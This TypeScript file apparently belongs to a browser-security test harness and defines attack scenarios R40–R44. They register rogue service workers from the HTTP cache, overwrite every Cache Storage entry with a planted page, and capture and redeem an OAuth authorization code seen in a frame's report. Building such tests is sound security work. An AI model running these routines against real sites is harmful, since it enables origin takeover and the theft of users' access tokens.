import type { Attack } from '../attack.ts';
import { CACHED_ROGUE } from '../naive-scripts.ts';
import type { Scene } from '../scene.ts';
import { PLAIN_PAGE } from '../site.ts';
import { register } from './rogue.ts';
import { stealOwnCode, VERIFIER } from './run-own-flow.ts';

/** Each way in which a page has its browser keep a script of the origin, by the destination of the request. */
const WAYS_TO_FETCH = ['fetch', 'script element', 'preload', 'module'] as const;

/** Registers a script that the gate refuses as a worker, out of the HTTP cache. */
function registeringFromCache(id: string, way: (typeof WAYS_TO_FETCH)[number], options: RegistrationOptions): Attack {
  const kind = options.type === 'module' ? 'a module worker' : 'a worker';
  return {
    id,
    title: `has the HTTP cache keep a script (${way}) and registers it from there as ${kind}`,
    scenario: '5.1.3',
    naive: 'open-server',
    notIn: { webkit: 'takes no worker script from the HTTP cache' },
    ruins: 'naive profile',
    act: async (scene) => {
      await fetchScript(scene, way);
      return { reached: (await register(scene, CACHED_ROGUE, { ...options, updateViaCache: 'all' })) === 'activated' };
    },
  };
}

async function fetchScript({ tab }: Scene, way: (typeof WAYS_TO_FETCH)[number]): Promise<void> {
  await tab.evaluate(
    async ([path, how]: readonly [string, string]) => {
      if (how === 'fetch') return void (await (await fetch(path)).text());
      const element = Object.assign(
        document.createElement(how === 'preload' ? 'link' : 'script'),
        how === 'preload' ? { rel: 'preload', as: 'script', href: path } : { src: path },
        how === 'module' ? { type: 'module' } : {},
      );
      await new Promise((resolve) => {
        element.addEventListener('load', resolve);
        element.addEventListener('error', resolve);
        document.head.append(element);
      });
    },
    [CACHED_ROGUE, way] as const,
  );
}

/** Puts a document of the attacker's in the place of every one that a cache of the origin has. */
async function plantDocuments({ tab }: Scene): Promise<void> {
  await tab.evaluate(async () => {
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys())
        await cache.put(request, new Response('<title>Planted</title>', { headers: { 'content-type': 'text/html' } }));
    }
  });
}

/** Redeems a code that was seen, from the page that saw it. */
function redeem({ tab, site, servers }: Scene, code: string): Promise<string> {
  const { origin, clientId } = servers.authorizationServer;
  const parameters = {
    grant_type: 'authorization_code',
    code,
    code_verifier: VERIFIER,
    redirect_uri: site.redirectUri,
  };
  return tab.evaluate(
    async ([url, form]: readonly [string, string]) => {
      const headers = { 'content-type': 'application/x-www-form-urlencoded' };
      return fetch(url, { method: 'POST', headers, body: form }).then((response) => response.text(), String);
    },
    [`${origin}/token`, String(new URLSearchParams({ ...parameters, client_id: clientId }))] as const,
  );
}

const PLANTED_DOCUMENT: Attack = {
  id: 'R44',
  title: 'plants a document in the precache, runs a flow in a frame of it, and redeems the code that a report names',
  scenario: '5.1.3',
  naive: 'bare-cache',
  tokenward: 'offline',
  notIn: { firefox: 'reports no address that a frame was redirected to' },
  act: async (scene) => {
    await plantDocuments(scene);
    await scene.tab.goto(scene.site.origin + PLAIN_PAGE);
    const isPlanted = await scene.tab.evaluate(() => document.title === 'Planted');
    if (!isPlanted) throw new Error('The worker has not answered with what was planted.');
    const seen = JSON.stringify(await stealOwnCode(scene, 'a frame and the report of an injected policy'));
    const [, code] = /[?&]code=([\w-]+)/.exec(seen) ?? [];
    return { seen: [seen, code && (await redeem(scene, code))] };
  },
};

export const FROM_CACHE_ATTACKS: readonly Attack[] = [
  registeringFromCache('R40', 'fetch', { scope: '/' }),
  registeringFromCache('R41', 'script element', { scope: '/' }),
  registeringFromCache('R42', 'preload', { scope: '/' }),
  registeringFromCache('R43', 'module', { scope: '/', type: 'module' }),
  PLANTED_DOCUMENT,
];
